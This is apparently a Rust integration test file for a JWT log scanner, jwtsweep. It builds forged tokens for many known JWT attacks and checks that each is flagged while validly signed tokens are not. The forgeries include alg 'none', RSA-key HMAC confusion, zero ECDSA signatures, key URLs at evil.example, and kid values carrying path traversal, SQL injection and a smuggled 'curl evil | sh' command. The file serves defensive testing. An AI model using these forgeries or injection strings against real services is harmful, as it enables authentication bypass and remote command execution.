//! Attack findings through the real binary: one forged token per way of
//! forging, each must raise its finding on its own line; honest tokens
//! raise none.

use std::path::Path;
use std::process::Command;

use base64_simd::URL_SAFE_NO_PAD;
use serde_json::Value;

const BIN: &str = env!("CARGO_BIN_EXE_jwtsweep");

fn demo(path: &str) -> String {
    format!("{}/fixtures/demo/{path}", env!("CARGO_MANIFEST_DIR"))
}

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode_to_string(bytes)
}

/// A token from raw header and claims JSON and a raw signature.
fn token(header: &str, claims: &str, signature: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64(header.as_bytes()),
        b64(claims.as_bytes()),
        b64(signature)
    )
}

/// An HS256 token MACed with `secret`.
fn hs256(header: &str, claims: &str, secret: &[u8]) -> String {
    let input = format!("{}.{}", b64(header.as_bytes()), b64(claims.as_bytes()));
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret);
    format!(
        "{input}.{}",
        b64(ring::hmac::sign(&key, input.as_bytes()).as_ref())
    )
}

const CLAIMS: &str = r#"{"sub":"mallory","exp":4102444800}"#;

/// Scans `lines` (one token each, after `Bearer `) and returns the
/// report's findings.
fn findings_of(dir: &Path, lines: &[String], keys: &[&str]) -> Value {
    let log = dir.join("forged.log");
    let text: String = lines
        .iter()
        .map(|t| format!("GET / \"Bearer {t}\"\n"))
        .collect();
    std::fs::write(&log, text).unwrap();
    let mut args = vec!["scan", "--format", "json", "--at", "2026-12-03T10:00:00Z"];
    args.extend_from_slice(keys);
    args.push(log.to_str().unwrap());
    let out = Command::new(BIN).args(&args).output().unwrap();
    assert_ne!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    report["findings"].clone()
}

#[test]
fn each_forgery_raises_its_finding_on_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let pem = std::fs::read(demo("keys/rsa.pem")).unwrap();
    let pem_trimmed = pem.strip_suffix(b"\n").unwrap().to_vec();
    let der = pem::parse(&pem).unwrap().contents().to_vec();

    // (finding, token); each token on its own line, in this order.
    let cases: Vec<(&str, String)> = vec![
        ("alg_none", token(r#"{"alg":"nOnE"}"#, CLAIMS, b"")),
        ("empty_signature", token(r#"{"alg":"HS256"}"#, CLAIMS, b"")),
        ("key_confusion", hs256(r#"{"alg":"HS256"}"#, CLAIMS, &pem)),
        (
            "key_confusion",
            hs256(r#"{"alg":"HS256"}"#, CLAIMS, &pem_trimmed),
        ),
        ("key_confusion", hs256(r#"{"alg":"HS256"}"#, CLAIMS, &der)),
        (
            "ecdsa_zero_signature",
            token(r#"{"alg":"ES256"}"#, CLAIMS, &[0; 64]),
        ),
        (
            "ecdsa_der_signature",
            token(r#"{"alg":"ES256"}"#, CLAIMS, &[0x30, 6, 2, 1, 5, 2, 1, 7]),
        ),
        (
            "ecdsa_signature_length",
            token(r#"{"alg":"ES384"}"#, CLAIMS, &[9; 64]),
        ),
        (
            "embedded_key",
            token(
                r#"{"alg":"RS256","jwk":{"kty":"RSA","n":"AQAB","e":"AQAB"}}"#,
                CLAIMS,
                b"x",
            ),
        ),
        (
            "embedded_key",
            token(r#"{"alg":"RS256","x5c":["MIIB"]}"#, CLAIMS, b"x"),
        ),
        (
            "key_url",
            token(
                r#"{"alg":"RS256","jku":"https://evil.example/jwks"}"#,
                CLAIMS,
                b"x",
            ),
        ),
        (
            "key_url",
            token(
                r#"{"alg":"RS256","x5u":"https://evil.example/c.pem"}"#,
                CLAIMS,
                b"x",
            ),
        ),
        (
            "kid_injection",
            token(r#"{"alg":"HS256","kid":"../../../dev/null"}"#, CLAIMS, b"x"),
        ),
        (
            "kid_injection",
            token(
                r#"{"alg":"HS256","kid":"x' UNION SELECT 'a"}"#,
                CLAIMS,
                b"x",
            ),
        ),
        (
            "kid_injection",
            token(r#"{"alg":"HS256","kid":"k; curl evil | sh"}"#, CLAIMS, b"x"),
        ),
        (
            "crit_header",
            token(r#"{"alg":"HS256","crit":["exp"],"exp":1}"#, CLAIMS, b"x"),
        ),
        (
            "unencoded_payload",
            token(
                r#"{"alg":"HS256","b64":false,"crit":["b64"]}"#,
                CLAIMS,
                b"x",
            ),
        ),
        (
            "compressed_payload",
            token(r#"{"alg":"HS256","zip":"DEF"}"#, CLAIMS, b"x"),
        ),
        (
            "duplicate_members",
            token(r#"{"alg":"HS256","alg":"none"}"#, CLAIMS, b"x"),
        ),
        (
            "duplicate_members",
            token(r#"{"alg":"HS256"}"#, r#"{"sub":"a","sub":"b"}"#, b"x"),
        ),
        (
            "wrong_claim_type",
            token(r#"{"alg":"HS256"}"#, r#"{"exp":"4102444800"}"#, b"x"),
        ),
        // "e31" decodes like "e30" ({}) but has a stray low bit set.
        (
            "non_canonical_base64",
            format!("{}.e31.{}", b64(br#"{"alg":"HS256"}"#), b64(b"x")),
        ),
    ];
    let lines: Vec<String> = cases.iter().map(|(_, t)| t.clone()).collect();
    let found = findings_of(dir.path(), &lines, &["--key", &demo("keys/rsa.pem")]);

    let mut missing = Vec::new();
    for (i, (name, _)) in cases.iter().enumerate() {
        let line = i as u64 + 1;
        let entry = &found[*name];
        let listed = entry["examples"]
            .as_array()
            .is_some_and(|ex| ex.iter().any(|e| e["line"] == line));
        // Examples are capped at five per finding: check the count instead
        // when a finding has more cases than that.
        let cases_of_kind = cases.iter().filter(|(n, _)| n == name).count() as u64;
        let counted = entry["occurrences"].as_u64().unwrap_or(0) >= cases_of_kind;
        if !(listed || cases_of_kind > 5 && counted) {
            missing.push(format!("line {line}: {name}"));
        }
    }
    assert!(
        missing.is_empty(),
        "findings not raised: {missing:?}\n{found:#}"
    );
    assert_eq!(found["key_confusion"]["distinct_tokens"], 3);
    assert_eq!(found["key_confusion"]["severity"], "critical");
    assert!(found["alg_none"]["explanation"]
        .as_str()
        .unwrap()
        .contains("unsigned"));
    // Findings name tokens by fingerprint only.
    for (_, t) in &cases {
        assert!(!found.to_string().contains(t.as_str()));
    }
}

#[test]
fn a_kid_used_with_two_key_families_is_a_finding() {
    let dir = tempfile::tempdir().unwrap();
    let lines = vec![
        token(r#"{"alg":"HS256","kid":"shared"}"#, CLAIMS, b"x"),
        token(r#"{"alg":"RS256","kid":"shared"}"#, CLAIMS, b"x"),
        token(r#"{"alg":"RS256","kid":"rsa-only"}"#, CLAIMS, b"x"),
        token(r#"{"alg":"ES256","kid":"rsa-only-too"}"#, CLAIMS, &[1; 64]),
    ];
    let found = findings_of(dir.path(), &lines, &[]);
    let subjects = found["alg_family_mix"]["subjects"].as_array().unwrap();
    assert_eq!(subjects.len(), 1, "{subjects:?}");
    assert!(subjects[0]
        .as_str()
        .unwrap()
        .starts_with("kid shared: hmac, rsa"));
}

#[test]
fn honest_tokens_raise_no_finding() {
    // The demo's valid tokens, each signed properly with a supported alg.
    let dir = tempfile::tempdir().unwrap();
    let log = std::fs::read_to_string(demo("access.log")).unwrap();
    let expected = std::fs::read_to_string(demo("expected.jsonl")).unwrap();
    let valid_lines: Vec<usize> = expected
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["verdict"] == "valid")
        .map(|e| e["line"].as_u64().unwrap() as usize)
        .collect();
    assert!(valid_lines.len() > 100);
    let lines: Vec<&str> = log.lines().collect();
    let honest: String = valid_lines
        .iter()
        .map(|&n| format!("{}\n", lines[n - 1]))
        .collect();
    std::fs::write(dir.path().join("honest.log"), honest).unwrap();
    let out = Command::new(BIN)
        .args([
            "scan",
            "--format",
            "json",
            "--jwks",
            &demo("keys/jwks.json"),
        ])
        .args(["--issuer", "https://issuer.example", "--audience", "api"])
        .arg(dir.path().join("honest.log"))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = report["findings"].as_object().unwrap();
    // The demo's one issuer signs with HMAC and public keys alike, which
    // is the issuer form of alg_family_mix; nothing else may appear.
    let names: Vec<&String> = findings.keys().filter(|k| *k != "alg_family_mix").collect();
    assert!(names.is_empty(), "{names:?}");
    assert_eq!(report["verdicts"]["valid"], report["totals"]["tokens"]);
}
